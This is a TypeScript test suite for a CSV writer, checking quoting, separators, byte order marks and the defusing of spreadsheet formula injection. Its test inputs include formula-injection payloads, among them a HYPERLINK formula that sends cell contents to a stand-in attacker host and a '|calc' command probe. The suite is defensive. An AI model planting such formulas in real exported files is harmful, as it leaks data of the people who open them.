import { parse as parseCsv } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvOf, type Separator, separators } from "./csv";

const parse = (file: string, delimiter: Separator = ","): string[][] =>
  parseCsv(file, { bom: true, delimiter, relax_column_count: true });

const AFTER_SEMICOLON = /(^|;)[\s"]*[=+\-@]/;
const AFTER_EITHER = /(^|[;,])[\s"]*[=+\-@]/;

describe("csvOf", () => {
  it("starts with a byte order mark and ends each line with CRLF", () => {
    expect(
      csvOf([
        ["a", 1],
        ["é", -90],
      ]),
    ).toBe("\uFEFFa,1\r\né,-90\r\n");
    expect(csvOf([])).toBe("\uFEFF");
  });

  it("quotes text that would end a cell", () => {
    expect(csvOf([['say "hi", you', "two\nlines", " spaces "]])).toBe(
      '\uFEFF"say ""hi"", you","two\nlines"," spaces "\r\n',
    );
  });

  it("disarms formulas and leaves numbers alone", () => {
    for (const text of [
      "=1+1",
      "+1",
      "-1",
      "@SUM(A1)",
      "\t=1",
      "\r=1",
      " =1",
      "\n=1",
      "|calc",
      "%0A",
      "＝1",
      "＋1",
      "－1",
      "＠A",
      '=HYPERLINK("http://evil.example?"&A1)',
    ]) {
      const [[cell = ""] = []] = parse(csvOf([[text]]));
      expect(cell).toBe(`'${text}`);
    }
    expect(csvOf([["a-b", "1+1=2", "me@example.org", -5, 0]])).toBe(
      "\uFEFFa-b,1+1=2,me@example.org,-5,0\r\n",
    );
  });

  it("separates columns by the given separator, whatever names and titles contain", () => {
    const rows = [
      ["Müller; Anna", "Soup, bread", 'say "hi"', "a;b,c\n"],
      ["Ñandú", "", "x", "=1;2"],
    ];
    for (const separator of separators) {
      const read = parse(csvOf(rows, separator), separator);
      expect(read.map((row) => row.length)).toEqual([4, 4]);
      expect(read[0]).toEqual(rows[0]);
      expect(csvOf([["a", "b", 1]], separator)).toBe(`\uFEFFa${separator}b${separator}1\r\n`);
    }
    expect(csvOf([["a; b", "c, d"]], ";")).toBe('\uFEFF"a; b";c, d\r\n');
  });

  it("leaves no formula when a file with semicolons is split at commas", () => {
    expect(csvOf([["x", "a,=1+1"]], ";")).toBe("\uFEFFx;a,'=1+1\r\n");
    expect(csvOf([["x", 'a;"=1,@SUM(A1)']], ";")).toBe('\uFEFFx;"a;\'""=1,\'@SUM(A1)"\r\n');
  });

  it("leaves no formula when a file with commas is split at semicolons, as in much of Europe", () => {
    for (const [text, file] of [
      ["cake;=A1+1;", "cake;'=A1+1;"],
      ["cake; \t@SUM(A1)", "cake;' \t@SUM(A1)"],
      ['cake;"=A1', '"cake;\'""=A1"'],
      ["a;-1;+1", "a;'-1;'+1"],
      ["a; b;c=d", "a; b;c=d"],
    ] as const) {
      expect(csvOf([["2026-11-25", text]])).toBe(`\uFEFF2026-11-25,${file}\r\n`);
    }
  });

  it("can be parsed again for any text, and contains no formula", () => {
    const text = fc.oneof(
      fc.string({ unit: "grapheme", maxLength: 12 }),
      fc.string({ unit: fc.constantFrom(..."=+-@,;\"\r\n\t '‏a"), maxLength: 8 }),
    );
    const rowsOfText = fc.array(fc.array(text, { minLength: 2, maxLength: 4 }));
    fc.assert(
      fc.property(rowsOfText, fc.constantFrom(...separators), (rows, separator) => {
        const read = parse(csvOf(rows, separator), separator);
        expect(read.map((row) => row.length)).toEqual(rows.map((row) => row.length));
        read.flat().forEach((cell, index) => {
          const before = rows.flat()[index] ?? "";
          expect(cell.replaceAll("'", "")).toBe(before.replaceAll("'", ""));
          expect(cell).not.toMatch(separator === ";" ? AFTER_EITHER : AFTER_SEMICOLON);
        });
      }),
    );
  });
});
